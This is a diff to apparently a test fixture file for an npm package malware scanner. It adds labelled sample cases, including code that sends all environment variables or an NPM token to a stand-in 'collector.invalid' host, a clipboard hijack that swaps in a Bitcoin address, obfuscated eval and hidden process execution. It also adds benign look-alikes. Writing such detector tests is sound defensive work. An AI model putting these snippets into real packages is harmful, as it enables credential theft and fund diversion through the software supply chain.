@@ -298,6 +298,91 @@ STAND_INS = {
         "power:inject-script",
         "host-new",
     ),
+    "hooked module loader": _adds(
+        PLAIN,
+        "const M = require('module');\nconst real = M._load;\nM._load = (name, ...all) => real(name, ...all);\n",
+        "tell:hook-net",
+    ),
+    "hooked module loader by a text": _adds(
+        PLAIN, "require('module')['_resolveFilename'] = (name) => name;\n", "tell:hook-net"
+    ),
+    "a command with another's name": _case(
+        PLAIN,
+        {
+            "package.json": manifest(dependencies={"ms": "^2.1.0"}, bin={"git": "lib/main.js"}),
+        },
+        "file-bin-shadows",
+    ),
+    "code behind a condition of exports": _case(
+        PLAIN,
+        {
+            "package.json": manifest(
+                dependencies={"ms": "^2.1.0"},
+                exports={".": {"node": "./lib/alt.cjs", "default": "./lib/main.js"}},
+            ),
+            "lib/alt.cjs": "require('node:child_process').execFile('echo');\n"
+            "module.exports = require('./main.js');\n",
+        },
+        "power:exec",
+    ),
+    "code by a computed key": _adds(
+        CLIENT,
+        "const k = 'k3y';\n"
+        "const f = (c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % 3));\n"
+        "const d = (s) => [...s].map(f).join('');\n"
+        "new Function(d('...'))();\n",
+        "pair:decode-eval",
+    ),
+    "environment by reflection": _adds(
+        CLIENT,
+        "const all = Reflect.ownKeys(process['env']).map((k) => Reflect.get(process['env'], k));\n"
+        "https.get('https://collector.invalid/?' + all);\n",
+        "pair:send-secrets",
+        "power:env-all",
+    ),
+    "a module from an address that is data": _adds(
+        PLAIN, "import('data:text/javascript,export default 1');\n", "power:eval"
+    ),
+    "a worker made of text": _adds(
+        PLAIN,
+        "new (require('worker_threads').Worker)('postMessage(1)', { eval: true });\n",
+        "power:eval",
+        "power:worker",
+    ),
+    "another address in the clipboard": _adds(
+        PLAIN,
+        "document.addEventListener('copy', () =>\n"
+        "  navigator.clipboard.writeText('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'));\n",
+        "tell:wallet-address",
+        "power:clipboard",
+    ),
+    "a secret as a name of a host": _adds(
+        PLAIN,
+        "import('node:dns/promises').then((d) => d.resolve(process.env.NPM_TOKEN + '.collector.invalid'));\n",
+        "pair:send-secrets",
+        "power:net",
+    ),
+    "code in the manifest": _case(
+        PLAIN,
+        {
+            "package.json": manifest(dependencies={"ms": "^2.1.0"}, tail="require('os')"),
+            **_added("require('vm').runInThisContext(require('../package.json').tail);\n"),
+        },
+        "power:eval",
+    ),
+    "inner binding": _adds(
+        PLAIN,
+        "const { Process } = process.binding('process_wrap');\nnew Process();\n",
+        "power:exec",
+    ),
+    "an unknown package under a known name": _case(
+        PLAIN,
+        {
+            **_depends(PLAIN, "dependencies", other="npm:plain-hidden-part@1.0.0"),
+        },
+        "dep-unpopular",
+        "dep-unused",
+    ),
     "machine code": _case(PLAIN, {"lib/fast.node": "\x7fELF"}, "power:native"),
     "new package that acts at install": _case(
         None,
@@ -357,6 +442,17 @@ HONEST: dict[str, StandIn] = {
     "a picture": _adds(
         PLAIN,
         "const dot = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';\n",
+    ),
+    "an alias of a known package": _case(
+        PLAIN,
+        {
+            **_depends(PLAIN, "dependencies", text="npm:chalk@^5.0.0"),
+            **_added("require('text');\n"),
+        },
+    ),
+    "names like the loader's": _adds(
+        PLAIN,
+        "exports.rows._loaded = 1;\nclass A { _load() { return this._load; } }\nexports.A = A;\n",
     ),
     "a moved file": _case(CLIENT, {"src/main.js": CLIENT["lib/main.js"]}),
     "another message in the install script": _case(
